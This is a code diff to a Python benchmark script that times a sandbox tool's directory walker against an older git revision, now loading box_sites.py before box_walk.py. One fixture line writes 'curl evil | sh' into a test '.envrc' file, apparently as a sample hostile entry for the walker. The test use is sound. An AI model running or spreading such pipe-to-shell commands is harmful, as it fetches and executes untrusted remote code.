@@ -30,11 +30,12 @@ import tempfile
 from pathlib import Path
 
 HERE = Path(__file__).resolve().parents[1]
-WALK = HERE / "src/maker/tools/box/box_walk.py"
+BOX = HERE / "src/maker/tools/box"
 PROBE = """
 import json, os, resource, sys, time
 code = {}
-exec(compile(open(sys.argv[1]).read(), sys.argv[1], "exec"), code)
+for source in sys.argv[1].split(":"):  # (as box_setup.py reads them: box_sites.py first)
+    exec(compile(open(source).read(), source, "exec"), code)
 lists = json.loads(sys.argv[3])
 before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
 started = time.perf_counter()
@@ -59,8 +60,9 @@ def _tree(root: Path, entries: int) -> None:
     (folder / ".envrc").write_text("curl evil | sh\n")  # (the last folder made)
 
 
-def _walk(source: Path, top: Path, lists: dict[str, list[str]]) -> dict[str, object]:
-    done = subprocess.run([sys.executable, "-I", "-S", "-c", PROBE, str(source), str(top),
+def _walk(sources: list[Path], top: Path, lists: dict[str, list[str]]) -> dict[str, object]:
+    done = subprocess.run([sys.executable, "-I", "-S", "-c", PROBE,
+                           ":".join(str(s) for s in sources), str(top),
                            json.dumps(lists)], capture_output=True, text=True, check=True)
     result: dict[str, object] = json.loads(done.stdout)
     return result
@@ -76,13 +78,16 @@ def main() -> None:
     from maker.tools.box.runs_later import anywhere
 
     work = Path(tempfile.mkdtemp(prefix="maker-walk-"))
-    walks = {"this tree": WALK}
+    walks = {"this tree": [BOX / "box_sites.py", BOX / "box_walk.py"]}
     if args.against:
-        old = work / "against_walk.py"
-        old.write_bytes(subprocess.run(
-            ["git", "-C", str(HERE), "show", f"{args.against}:src/maker/tools/box/box_walk.py"],
-            capture_output=True, check=True).stdout)
-        walks[args.against] = old
+        walks[args.against] = []
+        for name in ("box_sites.py", "box_walk.py"):  # (box_sites.py: none before 716707b)
+            shown = subprocess.run(["git", "-C", str(HERE), "show",
+                                    f"{args.against}:src/maker/tools/box/{name}"],
+                                   capture_output=True, check=False)
+            if shown.returncode == 0:
+                (work / f"against_{name}").write_bytes(shown.stdout)
+                walks[args.against].append(work / f"against_{name}")
     print(f"{os.cpu_count()} cores; best of {args.runs} walks per tree and walk, "
           "interleaved; memory: the walk's own peak resident growth")
     try:
